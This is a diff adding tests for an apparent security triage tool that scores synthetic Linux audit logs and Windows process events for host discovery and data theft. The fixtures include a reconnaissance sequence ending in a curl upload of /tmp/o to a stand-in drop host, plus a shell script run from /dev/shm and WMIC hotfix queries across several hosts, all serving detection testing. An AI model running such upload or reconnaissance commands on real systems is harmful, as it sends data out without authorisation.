@@ -293,3 +293,64 @@ describe("what is read and what leaves", () => {
     expect(one(document, "host.config-discovery", "lx2")?.sentence).toMatch(/ann asked about 4 things/);
   }, 60_000);
 });
+
+describe("who is behind a command", () => {
+  /** Audit lines of a program that began; no parent's path is logged there, only its number. */
+  const ran = (host: string, seconds: number, number: number, parent: number, words: readonly string[]) => {
+    const stamp = `msg=audit(${(base / 1000 + seconds).toFixed(3)}:${number}):`;
+    const exe = words[0]?.startsWith("/") ? words[0] : `/usr/bin/${words[0]}`;
+    return [
+      `node=${host} type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=${parent} pid=${number} auid=1000 uid=1000 tty=(none) comm="x" exe="${exe}" key="exec"`,
+      `node=${host} type=EXECVE ${stamp} argc=${words.length} ${words.map((word, n) => `a${n}="${word}"`).join(" ")}`,
+    ];
+  };
+  let document: ReportDocument;
+  beforeAll(async () => {
+    document = await triageDocument([
+      write(folder, "audit.log", [
+        // A script in the memory file system, whose children name their parent by number alone.
+        ...ran("scripted", 0, 10, 1, ["bash", "/dev/shm/r.sh"]),
+        ...["lscpu", "timedatectl", "snap list"].flatMap((line, n) =>
+          ran("scripted", 1 + n, 11 + n, 10, line.split(" ")),
+        ),
+        // The same by a script that is installed: three things are no set where nothing odd is behind them.
+        ...ran("installed", 0, 20, 1, ["bash", "/usr/local/sbin/check"]),
+        ...["lscpu", "timedatectl", "snap list"].flatMap((line, n) =>
+          ran("installed", 1 + n, 21 + n, 20, line.split(" ")),
+        ),
+        // Two things asked and sent by one parent, of which nothing else is known; and by two.
+        ...["uname -a", "dpkg -l", "curl -T /tmp/o https://drop.example/"].flatMap((line, n) =>
+          ran("sends", 1 + n, 31 + n, 30, line.split(" ")),
+        ),
+        ...["uname -a", "dpkg -l", "curl -T /tmp/o https://drop.example/"].flatMap((line, n) =>
+          ran("apart", 1 + n, 41 + n, 50 + n, line.split(" ")),
+        ),
+      ]),
+    ]);
+  }, 120_000);
+
+  test("a parent is found by its number, and a shell stands for its script", () => {
+    expect(one(document, "host.config-discovery", "scripted")?.sentence).toContain("/dev/shm/r.sh");
+    expect(one(document, "host.config-discovery", "installed")).toBeUndefined();
+  });
+
+  test("what one process asks and sends belongs together", () => {
+    expect(actionOf(document, "sends")).toBe("escalate");
+    expect(one(document, "data.unauthorised-access", "apart")).toBeUndefined();
+  });
+
+  test("one user who asks many hosts, and one who asks two", async () => {
+    const asked = await found(
+      "remote.json",
+      [...Array(6).keys()]
+        .map((n) => began("buyer", n, sys("wbem\\WMIC"), `wmic /node:ws${n} qfe get hotfixid`, cmd))
+        .concat(
+          [...Array(2).keys()].map((n) =>
+            began("admin", n, sys("wbem\\WMIC"), `wmic /node:ws${n} qfe get hotfixid`, cmd),
+          ),
+        ),
+    );
+    expect(one(asked, "host.config-discovery", "buyer")?.sentence).toContain("6 other hosts");
+    expect(one(asked, "host.config-discovery", "admin")).toBeUndefined();
+  });
+});
